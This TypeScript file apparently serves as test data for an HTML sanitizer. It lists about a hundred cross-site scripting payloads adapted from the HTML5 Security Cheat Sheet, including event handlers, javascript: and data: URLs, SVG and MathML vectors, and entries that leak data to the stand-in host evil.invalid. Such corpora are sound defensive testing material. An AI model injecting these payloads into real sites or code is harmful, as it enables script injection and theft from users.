import { asData, asReferences, type Payload } from './payload.js';

const script = '<script>parent.attack()</script>';
const drawing = '<svg xmlns="http://www.w3.org/2000/svg" onload="parent.attack()"></svg>';

/**
 * Elements and attributes that run something, as the "HTML5 Security Cheat Sheet" collects them
 * (https://html5sec.org/), written anew, with those that HTML has got since. How markup is read is in
 * html5-security-syntax.ts.
 */
export const html5Security: readonly Payload[] = [
  // Forms.
  {
    name: 'button of a form elsewhere, with an address of its own',
    html: '<form id="x"></form><button form="x" formaction="javascript:attack()">a</button>',
  },
  {
    name: 'button within its form',
    html: '<form><button formaction="javascript:attack()">a</button>',
  },
  {
    name: 'address of a form',
    html: '<form action="javascript:attack()"><input type=submit></form>',
  },
  {
    name: 'image button',
    html: '<form><input type=image src=x formaction=javascript:attack()></form>',
  },
  { name: 'focus that comes by itself', html: '<input onfocus=attack() autofocus>' },
  { name: 'focus that goes by itself', html: '<input onblur=attack() autofocus><input autofocus>' },
  { name: 'focus on any element', html: '<p onfocus=attack() tabindex=1 autofocus>a</p>' },
  { name: 'focus on a list', html: '<select onfocus=attack() autofocus><option>a</select>' },
  { name: 'focus on a text field', html: '<textarea onfocus=attack() autofocus>a</textarea>' },
  { name: 'focus on a key', html: '<keygen onfocus=attack() autofocus>' },
  {
    name: 'focus on an editable text',
    html: '<p contenteditable onfocus=attack() autofocus>a</p>',
  },
  { name: 'focus by a place in the address', html: '<a id=x tabindex=1 onfocusin=attack()>a</a>' },
  {
    name: 'events of a whole form',
    html: '<form onforminput=attack() onformchange=attack()><input></form>',
  },
  { name: 'input into the body', html: '<body oninput=attack()><input autofocus>' },
  {
    name: 'invalid field',
    html: '<form><input required oninvalid=attack()><button>a</button></form>',
  },
  { name: 'reset of a form', html: '<form onreset=attack()><input type=reset></form>' },
  { name: 'search', html: '<input type=search onsearch=attack()>' },
  {
    name: 'pattern without an end',
    html: '<input pattern=^((a+.)a)+$ value=aaaaaaaaaaaaaaaaaaaaaaaaaaaa!>',
  },
  { name: 'direction that is sent', html: '<form><input name=a><input name=b dirname=a></form>' },
  { name: 'index that is a form', html: '<isindex type=image src=1 onerror=attack()>' },
  { name: 'index with an address', html: '<isindex action="javascript:attack()" type=image>' },
  {
    name: 'access key',
    html: '<input type=hidden accesskey=x onclick=attack()><a accesskey=x onclick=attack()>a</a>',
  },
  {
    name: 'label that clicks',
    html: '<label for=x>a</label><input id=x type=checkbox onclick=attack()>',
  },
  {
    name: 'command of a button',
    html: '<button commandfor=x command=show-modal>a</button><dialog id=x oncommand=attack()>b</dialog>',
  },
  // Media.
  { name: 'poster of a film', html: '<video poster=javascript:attack()//></video>' },
  { name: 'source that fails', html: '<video><source onerror="attack()">' },
  { name: 'film whose source fails', html: '<video onerror="attack()"><source></source></video>' },
  { name: 'sound that fails', html: '<audio src=x onerror=attack()></audio>' },
  {
    name: 'film that can be played',
    html: '<video autoplay oncanplay=attack() onplay=attack()><source src=x></video>',
  },
  {
    name: 'subtitle that changes',
    html: '<video controls><track default oncuechange=attack() src="data:text/vtt,WEBVTT"></video>',
  },
  {
    name: 'picture that is loaded in the end',
    html: '<picture><source srcset=x><img onerror=attack() onload=attack()></picture>',
  },
  {
    name: 'candidates of an image',
    html: '<img srcset="x 1x" onerror=attack()><img srcset="javascript:attack() 1x">',
  },
  { name: 'old name of an image', html: '<image src=x onerror=attack()>' },
  { name: 'image with a script', html: '<img src="javascript:attack()">' },
  {
    name: 'image that sends its referrer',
    html: '<img src=https://evil.invalid/x referrerpolicy=unsafe-url attributionsrc=https://evil.invalid/y>',
  },
  // Frames and plug-ins.
  {
    name: 'document in an attribute',
    html: `<iframe srcdoc="${asReferences(script, (code) => `&#${code};`)}"></iframe>`,
  },
  {
    name: 'document in an attribute, by names',
    html: '<iframe srcdoc="&lt;img src&equals;x:x onerror&equals;parent.attack&lpar;&rpar;&gt;" />',
  },
  { name: 'frame of data', html: `<iframe src="${asData(script)}"></iframe>` },
  {
    name: 'frame of a drawing',
    html: `<iframe src="${asData(drawing, 'image/svg+xml')}"></iframe>`,
  },
  {
    name: 'frame with a sandbox that holds nothing',
    html: '<iframe sandbox="allow-same-origin allow-scripts" src=javascript:parent.attack()></iframe>',
  },
  {
    name: 'frame of an archive',
    html: '<iframe src=mhtml:https://evil.invalid/x.html!x.html></iframe>',
  },
  {
    name: 'frame of a source text',
    html: '<iframe src="view-source:https://evil.invalid/"></iframe>',
  },
  {
    name: 'frame within a link',
    html: '<a href="https://evil.invalid/"><iframe src="https://news.example/"></iframe></a>',
  },
  {
    name: 'frame without credentials',
    html: '<iframe credentialless srcdoc="<script>parent.attack()</script>"></iframe>',
  },
  { name: 'fenced frame', html: '<fencedframe src="javascript:attack()"></fencedframe>' },
  { name: 'portal', html: '<portal src="javascript:attack()" onload=attack()></portal>' },
  { name: 'set of frames that loads', html: '<frameset onload=attack()>' },
  { name: 'plug-in of data', html: `<object data="${asData(script)}"></object>` },
  { name: 'embedded data', html: `<embed src="${asData(script)}"></embed>` },
  { name: 'embedded script', html: '<embed src="javascript:attack()"></embed>' },
  {
    name: 'plug-in with a parameter',
    html: '<object classid="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><param name="DataURL" value="javascript:attack()"></object>',
  },
  {
    name: 'plug-in that fails',
    html: '<object onerror=attack() data=x></object><object onqt_error="attack()"><param name=postdomevents></object>',
  },
  { name: 'applet', html: '<applet code="javascript:attack()" onerror=attack()>a</applet>' },
  // Drawings and formulas.
  {
    name: 'drawing that loads, with its namespace',
    html: '<svg onload="attack()" xmlns="http://www.w3.org/2000/svg"></svg>',
  },
  {
    name: 'group that loads',
    html: '<svg xmlns="http://www.w3.org/2000/svg"><g onload="javascript:attack()"></g></svg>',
  },
  {
    name: 'script in a drawing',
    html: '<svg xmlns="http://www.w3.org/2000/svg"><script>attack()</script></svg>',
  },
  {
    name: 'script in a drawing, by its address',
    html: '<svg><script xlink:href="data:,attack()" href="data:,attack()" /></svg>',
  },
  {
    name: 'link in a drawing',
    html: '<svg><a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:attack()"><text y=9>a</text></a></svg>',
  },
  {
    name: 'link in a drawing without a prefix',
    html: '<svg><a href="javascript:attack()"><rect width=9 height=9 /></a></svg>',
  },
  {
    name: 'attribute set by a drawing',
    html: '<svg><a><set attributeName=href to=javascript:attack() /><text y=9>a</text></a></svg>',
  },
  {
    name: 'event set by a drawing',
    html: '<svg><set attributeName="onmouseover" to="attack()"/><animate attributeName="onunload" to="attack()"/></svg>',
  },
  {
    name: 'animated address',
    html: '<svg><a xlink:href="?"><circle r=9 /><animate attributeName=xlink:href begin=0 from=javascript:attack() to=& /></a></svg>',
  },
  {
    name: 'animated address with values',
    html: '<svg><a><animate attributeName=href values=javascript:attack() /><text y=9>a</text></a></svg>',
  },
  {
    name: 'animation that begins',
    html: '<svg><animate onbegin=attack() attributeName=x dur=1s></svg>',
  },
  {
    name: 'animation that ends',
    html: '<svg><animateTransform onend=attack() onrepeat=attack() attributeName=transform dur=.01s></svg>',
  },
  {
    name: 'drawing used from data',
    html: `<svg><use href="${asData(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><a href="javascript:attack()"><rect width="9" height="9"/></a></svg>`, 'image/svg+xml')}#x" /></svg>`,
  },
  {
    name: 'image in a drawing',
    html: `<svg><image xlink:href="${asData(drawing, 'image/svg+xml')}" onerror=attack() /></svg>`,
  },
  {
    name: 'image of a filter',
    html: `<svg><feImage><set attributeName="xlink:href" to="${asData(drawing, 'image/svg+xml')}"/></feImage></svg>`,
  },
  {
    name: 'key that sends',
    html: '<svg><image><set attributeName="xlink:href" begin="accessKey(a)" to="//evil.invalid/?a" /></image></svg>',
  },
  {
    name: 'handler of XML events',
    html: '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">attack()</handler></svg>',
  },
  {
    name: 'listener of XML events',
    html: '<svg id=x><listener event="load" handler="#y" xmlns="http://www.w3.org/2001/xml-events" observer="x"/><handler id="y">attack()</handler></svg>',
  },
  {
    name: 'page in a drawing',
    html: '<svg><foreignObject><iframe src="javascript:parent.attack()"></iframe><img src=x onerror=attack()></foreignObject></svg>',
  },
  {
    name: 'description in a drawing',
    html: '<svg><desc><img src=x onerror=attack()></desc><title><a href="javascript:attack()">a</a></title></svg>',
  },
  {
    name: 'filter in a drawing',
    html: `<svg><image style='filter:url("data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><script>parent.attack()</script></svg>")'></svg>`,
  },
  { name: 'discarded part of a drawing', html: '<svg><discard onbegin=attack()></svg>' },
  {
    name: 'formula that is a link',
    html: '<math href="javascript:attack()">a</math><math><mi href="javascript:attack()">b</mi></math>',
  },
  {
    name: 'action of a formula',
    html: '<math><maction actiontype="statusline" xlink:href="javascript:attack()">a<mtext>b</mtext></maction></math>',
  },
  {
    name: 'events in a formula',
    html: '<math onmouseover=attack()><mtext onclick=attack()>a</mtext></math>',
  },
  {
    name: 'image in a formula',
    html: '<math><mtext><img src=x onerror=attack()><a href="javascript:attack()">a</a></mtext></math>',
  },
  {
    name: 'source of a formula',
    html: '<math><mglyph src="javascript:attack()" /><semantics><annotation-xml src="javascript:attack()" /></semantics></math>',
  },
  // Elements of later years.
  {
    name: 'details that open',
    html: '<details open ontoggle=attack()><summary>a</summary>b</details>',
  },
  {
    name: 'details that close each other',
    html: '<details name=x open ontoggle=attack()>a</details><details name=x open>b</details>',
  },
  {
    name: 'dialog',
    html: '<dialog open onclose=attack() oncancel=attack()><form method=dialog><button>a</button></form></dialog>',
  },
  {
    name: 'popover',
    html: '<button popovertarget=x>a</button><p id=x popover onbeforetoggle=attack() ontoggle=attack()>b</p>',
  },
  {
    name: 'template',
    html: '<template><script>attack()</script><img src=x onerror=attack()></template>',
  },
  {
    name: 'shadow tree',
    html: '<div><template shadowrootmode=open><img src=x onerror=attack()><slot onslotchange=attack()></slot></template>a</div>',
  },
  {
    name: 'custom element',
    html: '<p is="x-y" onclick=attack()>a</p><x-y onclick=attack()>b</x-y>',
  },
  {
    name: 'import map',
    html: '<script type=importmap>{"imports":{"x":"data:text/javascript,attack()"}}</script><script type=module>import "x"</script>',
  },
  {
    name: 'rules for what is fetched',
    html: '<script type=speculationrules>{"prerender":[{"urls":["https://evil.invalid/"]}]}</script>',
  },
  {
    name: 'import of a document',
    html: '<link rel=import href="x.html" onload=attack() onerror=attack()>',
  },
  {
    name: 'module fetched early',
    html: '<link rel=modulepreload href="data:text/javascript,attack()" onerror=attack()>',
  },
  {
    name: 'style sheet that fails',
    html: '<link rel=stylesheet href=x onerror=attack()><style onload=attack()></style>',
  },
  { name: 'script that fails', html: '<script src=x onerror=attack()></script>' },
  {
    name: 'base of all addresses',
    html: '<base href="javascript://"/><a href="/. /,attack()//#">a</a>',
  },
  {
    name: 'window of all links',
    html: '<base target="_top" href="https://evil.invalid/"><a href=x target=_top>a</a>',
  },
  {
    name: 'policy of the page',
    html: `<meta http-equiv="Content-Security-Policy" content="script-src 'none'"><meta name=referrer content=unsafe-url>`,
  },
  { name: 'cookie by an element', html: '<meta http-equiv="Set-Cookie" content="a=b">' },
  {
    name: 'command of a menu',
    html: '<menu type=context id=x><menuitem onclick=attack()></menu><command onclick=attack()>',
  },
  {
    name: 'source of events',
    html: '<event-source src="x" onload="attack()"><eventsource src=x onerror=attack()>',
  },
  {
    name: 'scrolling of the page',
    html: '<body onscroll=attack() onresize=attack() onhashchange=attack() onmessage=attack() onpageshow=attack()>a',
  },
  {
    name: 'end of scrolling',
    html: '<div onscrollend=attack() onscrollsnapchange=attack() style="overflow:scroll">a</div>',
  },
  {
    name: 'end of an animation',
    html: '<p style="animation:x 1ms" onanimationend=attack() ontransitionend=attack() onwebkitanimationend=attack()>a</p>',
  },
  {
    name: 'content that comes near',
    html: '<p style="content-visibility:auto" oncontentvisibilityautostatechange=attack()>a</p>',
  },
  {
    name: 'pointer',
    html: '<p onpointerenter=attack() onpointerrawupdate=attack() onmouseenter=attack() onwheel=attack()>a</p>',
  },
  { name: 'text that is found', html: '<div hidden=until-found onbeforematch=attack()>a</div>' },
  {
    name: 'ping of a link',
    html: '<a href="https://news.example/" ping="https://evil.invalid/">a</a>',
  },
  {
    name: 'link with all ways to act',
    html: '<a href="javascript:attack()" target=_blank rel=opener download=x.exe>a</a>',
  },
  {
    name: 'VBScript in a script',
    html: '<script language=vbs>window.attack()</script><a href="vbs:attack()" language=vbs onclick=attack()>a</a>',
  },
  { name: 'address of data in a link', html: `<a href="${asData(script)}">a</a>` },
  {
    name: 'address of an object in memory',
    html: '<a href="blob:https://news.example/x">a</a><a href="filesystem:https://news.example/x">b</a>',
  },
  {
    name: 'feed of a script',
    html: '<a href="feed:javascript:attack()">a</a><a href="feed:data:text/html,<script>attack()</script>">b</a>',
  },
  {
    name: 'source text of a script',
    html: '<a href="view-source:javascript:attack()">a</a><a href="jar:https://evil.invalid/x!/y">b</a>',
  },
];
